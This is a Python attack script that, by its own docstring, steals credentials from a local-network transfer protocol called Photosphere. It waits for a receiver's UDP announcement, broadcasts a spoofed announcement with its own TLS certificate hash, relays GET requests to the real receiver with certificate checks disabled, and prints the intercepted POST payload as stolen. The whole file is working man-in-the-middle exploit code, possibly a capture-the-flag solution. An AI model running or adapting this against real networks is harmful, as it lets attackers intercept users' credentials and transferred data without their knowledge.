#!/usr/bin/env python3
"""Steals credentials from the Photosphere protocol without knowing the code: whoever is asked for its hash asks the real
receiver. Says what it stole as one JSON line, {"stolen": payload}."""

import argparse
import hashlib
import http.client
import http.server
import json
import socket
import ssl
import sys
import threading

PORT = 54321


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def answer(self, value):
        body = json.dumps(value).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        host, port = self.server.real
        anybody = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        anybody.check_hostname, anybody.verify_mode = False, ssl.CERT_NONE
        there = http.client.HTTPSConnection(host, port, timeout=5, context=anybody)
        there.request("GET", self.path)
        self.answer(json.loads(there.getresponse().read()))

    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.answer({"success": True})
        print(json.dumps({"stolen": body["payload"]}), flush=True)
        self.server.done.set()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--cert", required=True)
    parser.add_argument("--key", required=True)
    options = parser.parse_args()
    ears = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    ears.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ears.bind(("", PORT))
    text, (host, _) = ears.recvfrom(512)
    ears.close()
    server = http.server.ThreadingHTTPServer(("0.0.0.0", 0), Handler)
    server.real, server.done = (host, int(text.split(b":")[1])), threading.Event()
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(options.cert, options.key)
    server.socket = tls.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    with open(options.cert) as file:
        digest = hashlib.sha256(ssl.PEM_cert_to_DER_cert(file.read())).hexdigest()
    shout = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    shout.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    for _ in range(60):
        shout.sendto(f"PSIE_RECV:{server.server_port}:{digest}".encode(), ("255.255.255.255", PORT))
        if server.done.wait(1):
            return 0
    return 1


sys.exit(main())
